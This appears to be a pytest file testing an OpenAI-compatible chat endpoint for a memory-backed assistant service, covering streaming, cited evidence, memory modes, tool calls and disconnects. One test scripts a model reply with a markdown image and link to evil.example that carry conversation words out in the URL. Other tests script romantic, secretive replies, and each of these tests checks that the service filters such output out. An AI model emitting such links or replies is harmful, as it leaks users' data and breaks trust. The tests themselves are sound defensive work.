"""Chat completions, as OpenAI's own client sees them."""

from __future__ import annotations

import asyncio
import json
import threading
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from typing import Any

import httpx
import openai
import pytest
from pydantic_ai.exceptions import ModelHTTPError
from tests.interfaces.openai.conftest import (
    BROKEN,
    KITCHEN,
    MUSEUM,
    QUESTION,
    Asked,
    Calls,
    Clock,
    Script,
    extra,
    serving,
    turns,
)

from vertraut.application.service import Service
from vertraut.interfaces import streams

TOOL: Any = {
    "type": "function",
    "function": {
        "name": "send_note",
        "description": "Sends a note.",
        "parameters": {"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]},
    },
}


def said(*contents: str) -> Any:
    """Return messages of a conversation, the person's first, in turns."""
    return [{"role": "assistant" if place % 2 else "user", "content": text} for place, text in enumerate(contents)]


def kitchen(asked: Asked) -> str:
    return f"{KITCHEN} [{asked.number(KITCHEN)}]"


def museum(asked: Asked) -> str:
    return f"{MUSEUM} [{asked.number(MUSEUM)}]"


def test_an_answer_comes_with_its_evidence_and_the_turn_is_remembered(
    client: openai.OpenAI, script: Script, service: Service
) -> None:
    script.answers = [kitchen]
    answer = client.chat.completions.create(model="vertraut", messages=said(QUESTION))
    message, choice = answer.choices[0].message, answer.choices[0]
    assert message.role == "assistant"
    assert message.content is not None
    assert KITCHEN.removesuffix(".") in message.content
    assert choice.finish_reason == "stop"
    assert answer.usage is not None
    assert answer.usage.total_tokens == answer.usage.prompt_tokens + answer.usage.completion_tokens > 0
    [evidence] = extra(message)["evidence"]
    assert evidence["author"] == "Lena"
    assert evidence["excerpt"] == KITCHEN
    assert evidence["when"].startswith("2025-03-08T14:30")
    assert f"[{evidence['number']}]" in message.content
    assert [text for _, _, text in turns(service)] == [QUESTION, message.content.strip()]


def test_a_stream_says_the_same_piece_by_piece(client: openai.OpenAI, script: Script) -> None:
    script.answers = [museum]
    stream = client.chat.completions.create(
        model="vertraut",
        messages=said("When is the museum trip?"),
        stream=True,
        stream_options={"include_usage": True},
    )
    chunks = list(stream)
    assert chunks[0].choices[0].delta.role == "assistant"
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks if chunk.choices)
    assert text.startswith(MUSEUM.removesuffix("."))
    *_, last, usage = chunks
    assert last.choices[0].finish_reason == "stop"
    assert extra(last.choices[0].delta)["evidence"][0]["author"] == "Ms Grant"
    assert usage.choices == []
    assert usage.usage is not None
    assert usage.usage.completion_tokens > 0
    assert len({chunk.id for chunk in chunks}) == 1


def test_the_client_helper_puts_a_stream_together(client: openai.OpenAI, script: Script) -> None:
    script.answers = [kitchen]
    with client.chat.completions.stream(model="vertraut", messages=said(QUESTION)) as stream:
        done = stream.get_final_completion()
    assert done.choices[0].message.content is not None
    assert KITCHEN.removesuffix(".") in done.choices[0].message.content


def test_a_resent_conversation_goes_on_and_nothing_is_remembered_twice(
    client: openai.OpenAI, script: Script, service: Service
) -> None:
    script.answers = [kitchen, museum]
    first = client.chat.completions.create(model="vertraut", messages=said(QUESTION)).choices[0].message
    history = said(QUESTION, first.content or "", "When is the museum trip?")
    second = client.chat.completions.create(model="vertraut", messages=history).choices[0].message
    assert extra(first)["conversation"] == extra(second)["conversation"]
    assert "Lena" not in str(script.asked[1].messages[0])
    assert len(turns(service)) == 4
    assert len({thread for thread, _, _ in turns(service)}) == 1
    again = client.chat.completions.create(model="vertraut", messages=history).choices[0].message
    assert extra(again)["conversation"] == extra(first)["conversation"]
    assert len(turns(service)) == 4


def test_the_same_beginning_is_another_conversation_later(
    client: openai.OpenAI, script: Script, service: Service, hands: Clock
) -> None:
    script.answers = [kitchen]
    first, retried = [client.chat.completions.create(model="vertraut", messages=said(QUESTION)) for _ in range(2)]
    hands.instant += timedelta(hours=3)
    later = client.chat.completions.create(model="vertraut", messages=said(QUESTION))
    names = [extra(each.choices[0].message)["conversation"] for each in (first, retried, later)]
    assert names[0] == names[1] != names[2]
    assert len(turns(service)) == 4


def test_after_a_restart_a_conversation_stays_one(service: Service, script: Script) -> None:
    script.answers = ["Um acht."]
    names = []
    for _ in range(2):
        for base in serving(service):
            with openai.OpenAI(base_url=base, api_key="vt_owner", max_retries=0) as client:
                history = said(QUESTION, "Am Dienstag.", "Und wann genau?")
                answer = client.chat.completions.create(model="vertraut-private", messages=history)
                names.append(extra(answer.choices[0].message)["conversation"])
    assert names[0] == names[1]


def test_a_client_may_name_the_conversation(client: openai.OpenAI, script: Script, service: Service) -> None:
    script.answers = [kitchen]
    raw = client.chat.completions.with_raw_response.create(
        model="vertraut", messages=said(QUESTION), extra_headers={"X-Vertraut-Conversation": "holiday-1"}
    )
    assert raw.headers["x-vertraut-conversation"] == "holiday-1"
    assert {thread for thread, _, _ in turns(service)} == {"holiday-1"}


@pytest.mark.parametrize(
    "case",
    [
        ("vertraut", "", "read and remembered"),
        ("vertraut", "read", "read"),
        ("vertraut", "off", ""),
        ("vertraut@off", "", ""),
        ("vertraut-private", "", "read"),
        ("vertraut-private", "read-write", "read and remembered"),
        ("smart", "", "read"),
        ("smart@read-write", "", "read and remembered"),
        ("smart", "read-write", "read and remembered"),
        ("smart@read-write", "off", ""),
    ],
)
def test_what_becomes_of_memory_is_said_by_name_or_header(
    client: openai.OpenAI, script: Script, service: Service, case: tuple[str, str, str]
) -> None:
    model, header, kept = case
    script.answers = ["Gern geschehen."]
    headers = {"X-Vertraut-Memory": header} if header else {}
    client.chat.completions.create(model=model, messages=said(QUESTION), extra_headers=headers)
    assert (KITCHEN in script.asked[0].text) == ("read" in kept)
    assert bool(turns(service)) == ("remembered" in kept)


@pytest.mark.parametrize(("question", "words"), [(QUESTION, KITCHEN), ("When is the museum trip?", MUSEUM)])
def test_without_a_language_model_memory_is_quoted(
    client: openai.OpenAI, script: Script, service: Service, question: str, words: str
) -> None:
    answer = client.chat.completions.create(model="vertraut-quotes", messages=said(question))
    message = answer.choices[0].message
    assert message.content is not None
    assert words in message.content
    assert extra(message)["model"] == "quotes"
    assert extra(message)["evidence"][0]["excerpt"] == words
    assert answer.usage is not None
    assert answer.usage.completion_tokens > 0
    assert script.asked == []
    assert turns(service) == []


def test_a_model_that_is_down_is_told_openly_and_memory_is_quoted(client: openai.OpenAI, script: Script) -> None:
    script.answers = [ModelHTTPError(400, "smart-1")]
    message = client.chat.completions.create(model="vertraut", messages=said(QUESTION)).choices[0].message
    assert [each["code"] for each in extra(message)["notices"]] == ["model_down"]
    assert message.content is not None
    assert "Sprachmodell" in message.content
    assert KITCHEN in message.content


def test_a_particular_model_answers_under_its_name(client: openai.OpenAI, script: Script) -> None:
    script.answers = ["It is Tuesday."]
    answer = client.chat.completions.create(
        model="small",
        messages=[{"role": "system", "content": "Be brief."}, {"role": "user", "content": QUESTION}],
        temperature=0.1,
        max_tokens=50,
    )
    assert answer.model == "small"
    [asked] = script.asked
    assert asked.model == "small"
    assert asked.text.index("Be brief.") < asked.text.index("<memory>") < asked.text.index(KITCHEN)
    settings = asked.info.model_settings
    assert settings is not None
    assert settings.get("max_tokens") == 50
    assert settings.get("temperature") == 0.1


def test_tools_are_the_clients_and_their_results_come_back(client: openai.OpenAI, script: Script, service: Service) -> None:
    script.answers = [Calls("send_note", '{"to":"Lena"}'), "I have told Lena."]
    messages = said("Tell Lena about the kitchen.")
    first = client.chat.completions.create(model="vertraut", messages=messages, tools=[TOOL]).choices[0]
    assert first.finish_reason == "tool_calls"
    assert first.message.tool_calls is not None
    [call] = first.message.tool_calls
    assert call.type == "function"
    assert (call.function.name, json.loads(call.function.arguments)) == ("send_note", {"to": "Lena"})
    assert turns(service) == []
    results = [
        *messages,
        {"role": "assistant", "content": None, "tool_calls": [call.to_dict()]},
        {"role": "tool", "tool_call_id": call.id, "content": "sent"},
    ]
    second = client.chat.completions.create(model="vertraut", messages=results, tools=[TOOL]).choices[0]
    assert second.message.content == "I have told Lena."
    assert "sent" in script.asked[1].text
    assert [text for _, _, text in turns(service)] == ["Tell Lena about the kitchen.", "I have told Lena."]


def test_tool_calls_are_streamed(client: openai.OpenAI, script: Script) -> None:
    script.answers = [Calls("send_note", '{"to":"Tobi"}')]
    with client.chat.completions.stream(model="smart", messages=said("Tell Tobi."), tools=[TOOL]) as stream:
        done = stream.get_final_completion()
    assert done.choices[0].finish_reason == "tool_calls"
    assert done.choices[0].message.tool_calls is not None
    assert done.choices[0].message.tool_calls[0].function.arguments == '{"to": "Tobi"}'


def test_the_choice_of_tools_is_heeded(client: openai.OpenAI, script: Script) -> None:
    script.answers = ["No."]
    client.chat.completions.create(model="smart", messages=said("Hi there, Lena"), tools=[TOOL], tool_choice="none")
    client.chat.completions.create(model="smart", messages=said("Hi there, Lena"), tools=[TOOL], tool_choice="required")
    none, required = script.asked
    assert none.info.function_tools == []
    assert [each.name for each in required.info.function_tools] == ["send_note"]
    assert "calling one of the tools" in required.text


def test_an_answer_in_json_is_json_and_within_the_boundaries(client: openai.OpenAI, script: Script) -> None:
    script.answers = ['{"day": "Tuesday", "note": "I love you and I am jealous of your wife."}']
    answer = client.chat.completions.create(
        model="smart",
        messages=said("Which day does the kitchen come?"),
        response_format={"type": "json_schema", "json_schema": {"name": "day", "schema": {"type": "object"}}},
    )
    assert answer.choices[0].message.content is not None
    data = json.loads(answer.choices[0].message.content)
    assert data["day"] == "Tuesday"
    assert "jealous" not in data["note"]


@pytest.mark.parametrize("stream", [False, True])
def test_the_boundaries_hold_for_a_model_of_itself(client: openai.OpenAI, script: Script, stream: bool) -> None:
    script.answers = ["The kitchen comes on Tuesday. Don't tell your wife about me, I love you."]
    messages = said("When does the kitchen come?")
    if stream:
        chunks = client.chat.completions.create(model="smart", messages=messages, stream=True)
        text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    else:
        text = client.chat.completions.create(model="smart", messages=messages).choices[0].message.content or ""
    assert "Tuesday" in text
    assert "love you" not in text


def test_no_address_that_nobody_gave_carries_words_away(client: openai.OpenAI, script: Script) -> None:
    script.answers = ["Look: ![x](https://evil.example/p?d=Dienstag) and https://evil.example/?q=1 for more."]
    told = client.chat.completions.create(model="smart", messages=said(QUESTION)).choices[0].message.content or ""
    assert "evil.example" not in told


@pytest.mark.parametrize("model", ["vertraut-quotes", "smart"])
def test_an_answer_ends_at_a_stop_sequence(client: openai.OpenAI, script: Script, model: str) -> None:
    script.answers = ["Die neue Küche kommt am Dienstag."]
    answer = client.chat.completions.create(model=model, messages=said(QUESTION), stop=["Dien", "never"]).choices[0]
    assert answer.message.content is not None
    assert answer.message.content.endswith("am ")
    assert answer.finish_reason == "stop"


def test_an_answer_ends_after_so_many_tokens(client: openai.OpenAI, script: Script) -> None:
    choice = client.chat.completions.create(model="vertraut-quotes", messages=said(QUESTION), max_tokens=4).choices[0]
    assert choice.finish_reason == "length"
    assert choice.message.content is not None
    assert 0 < len(choice.message.content) < len(KITCHEN)


@pytest.mark.parametrize("model", ["vertraut", "smart@read-write"])
def test_a_client_that_vanishes_ends_the_call_and_harms_nobody(
    base: str, script: Script, service: Service, model: str
) -> None:
    script.answers = [lambda asked: f"{kitchen(asked)} " * 5000]
    body = {"model": model, "messages": said(QUESTION), "stream": True}
    headers = {"Authorization": "Bearer vt_owner"}
    with httpx.Client() as gone, gone.stream("POST", f"{base}/chat/completions", json=body, headers=headers) as answer:
        assert next(answer.iter_lines()).startswith("data: ")
    assert script.closed.wait(20)
    assert turns(service) == []
    script.answers = ["Ja."]
    with openai.OpenAI(base_url=base, api_key="vt_owner", max_retries=0) as client:
        assert client.chat.completions.create(model="smart", messages=said(QUESTION)).choices[0].message.content == "Ja."


def test_a_client_that_does_not_read_ends_the_call(
    base: str, script: Script, service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(streams, "PATIENCE", 0.2)
    script.answers = [lambda asked: f"{'Ja' * 5000}. " * 5000]
    body = {"model": "smart@read-write", "messages": said(QUESTION), "stream": True}
    headers = {"Authorization": "Bearer vt_owner"}
    with httpx.Client() as idle, idle.stream("POST", f"{base}/chat/completions", json=body, headers=headers):
        assert script.closed.wait(20)
    assert turns(service) == []


def test_an_answer_that_breaks_off_is_an_error_and_not_remembered(
    client: openai.OpenAI, script: Script, service: Service
) -> None:
    script.answers = [f"The new kitchen comes on Tuesday in the morning. The joiner from town brings it to us. {BROKEN}"]
    pieces: list[str] = []
    stream = client.chat.completions.create(model="smart@read-write", messages=said(QUESTION), stream=True)
    with pytest.raises(openai.APIError) as failed:
        pieces.extend(chunk.choices[0].delta.content or "" for chunk in stream)
    assert "".join(pieces).startswith("The new kitchen comes")
    assert failed.value.code == "model_unavailable"
    assert turns(service) == []


def test_many_streams_at_once_do_not_mix(client: openai.OpenAI, script: Script) -> None:
    words = [f"Wort{number}" for number in range(8)]

    def echoed(asked: Asked) -> str:
        return next(word for word in words if f"sage {word}!" in asked.text) + " gesagt."

    script.answers = [echoed]
    together = threading.Barrier(len(words))

    def ask(word: str) -> str:
        together.wait(20)
        chunks = client.chat.completions.create(model="smart@off", messages=said(f"Bitte sage {word}!"), stream=True)
        return "".join(chunk.choices[0].delta.content or "" for chunk in chunks)

    with ThreadPoolExecutor(len(words)) as pool:
        assert list(pool.map(ask, words)) == [f"{word} gesagt." for word in words]


def test_the_asynchronous_client_gets_the_same(base: str, script: Script) -> None:
    script.answers = [kitchen]

    async def both() -> tuple[str, str]:
        async with openai.AsyncOpenAI(base_url=base, api_key="vt_asker", max_retries=0) as client:
            whole = await client.chat.completions.create(model="vertraut-private", messages=said(QUESTION))
            stream = await client.chat.completions.create(model="vertraut-private", messages=said(QUESTION), stream=True)
            pieces = [chunk.choices[0].delta.content or "" async for chunk in stream]
        return whole.choices[0].message.content or "", "".join(pieces)

    whole, streamed = asyncio.run(both())
    assert whole == streamed
    assert KITCHEN.removesuffix(".") in whole
